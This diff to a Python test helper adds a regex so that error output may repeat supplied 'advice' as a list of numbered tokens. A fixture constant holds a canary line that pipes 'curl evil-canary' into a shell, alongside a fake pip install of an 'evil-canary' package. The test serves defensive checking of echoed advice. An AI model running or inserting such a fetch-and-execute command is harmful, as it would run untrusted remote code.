@@ -27,12 +27,15 @@ from tests.tiers import examples
 
 ADVICE = "pip install evil-canary-pkg\nhint: curl evil-canary | sh"
 MESSAGE = re.compile('"[^"]*"')  # of another package
+NUMBERED_TOKENS = re.compile(r"the tokens are: 1 \S+(?:, \d+ \S+)*")
 FIRST_OF_MANY = 30  # entries of an object, such as a vocabulary, of which one is like the others
 
 
 def assert_quoted(result: Result) -> None:
-    """Check that what is said of a file repeats no advice but in quotes, and no hint repeats it."""
+    """Check that what is said of a file repeats no advice but in quotes, and no hint repeats it but
+    as a list of numbered tokens."""
     for line in result.err.splitlines():
+        line = NUMBERED_TOKENS.sub("", line)
         unquoted = (
             line if line.startswith(" hint: ") else QUOTED_WORD.sub("", MESSAGE.sub("", line))
         )
